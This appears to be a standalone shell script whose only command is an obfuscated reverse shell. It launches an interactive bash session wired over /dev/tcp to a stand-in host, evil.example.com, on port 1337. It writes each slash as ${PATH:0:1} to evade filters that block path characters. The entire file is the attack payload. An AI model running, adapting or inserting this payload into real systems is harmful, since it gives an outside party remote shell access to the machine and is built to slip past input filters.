#!/bin/sh
${PATH:0:1}bin${PATH:0:1}bash -i >& ${PATH:0:1}dev${PATH:0:1}tcp${PATH:0:1}evil.example.com${PATH:0:1}1337 0>&1
